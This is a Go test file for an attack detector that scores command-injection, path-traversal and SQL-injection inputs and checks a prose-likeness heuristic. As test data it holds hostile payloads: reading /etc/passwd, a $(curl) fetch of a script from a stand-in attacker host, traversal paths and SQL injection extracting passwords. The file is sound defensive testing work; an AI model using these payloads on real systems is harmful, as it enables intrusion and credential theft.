package detect

import "testing"

func TestConfidence(t *testing.T) {
	tests := []struct {
		det  string
		give string
		want Confidence
	}{
		{"cmdi", "what's the difference between chattr and chmod? man chattr > 1; man chmod > 2; diff -u 1 2 | less", Low},
		{"cmdi", "; cat /etc/passwd", High},
		{"cmdi", "hello; whoami", High},
		{"cmdi", "please look at this for me $(curl http://evil.example/x.sh) thanks a lot my friend", High},
		{"traversal", "the build failed with -include ../../debian/el33t.h as the header name, which is strange", Low},
		{"traversal", "../../../etc/passwd", High},
		{"traversal", "please open the file ../../../../etc/passwd for me and tell me what is in there", High},
		{"sqli", "1' OR '1'='1", High},
		{"sqli", "-1 UNION SELECT username, password FROM users--", High},
	}
	sc := NewScratch()
	for _, tt := range tests {
		d, _ := Builtin(tt.det)
		sc.Reset(tt.give)
		f, ok := d.Detect(sc, Input{Value: tt.give, Source: "body"})
		if !ok {
			t.Errorf("%s(%q) missed", tt.det, tt.give)
			continue
		}
		if f.Confidence != tt.want {
			t.Errorf("%s(%q) confidence %v (%s), want %v", tt.det, tt.give, f.Confidence, f.Reason, tt.want)
		}
	}
}

func TestProseLike(t *testing.T) {
	tests := []struct {
		give string
		want bool
	}{
		{"The quick brown fox jumps over the lazy dog, again and again.", true},
		{"Привет, как дела? Сегодня хорошая погода, пойдём гулять в парк вечером.", true},
		{"(select count(*) from all_users t1,all_users t2,all_users t3,all_users t4)", false},
		{"; curl https://crowdshield.com/.testing/rce_vuln.txt", false},
		{"short text", false},
	}
	for _, tt := range tests {
		if got := proseLike(tt.give); got != tt.want {
			t.Errorf("proseLike(%q) = %v, want %v", tt.give, got, tt.want)
		}
	}
}
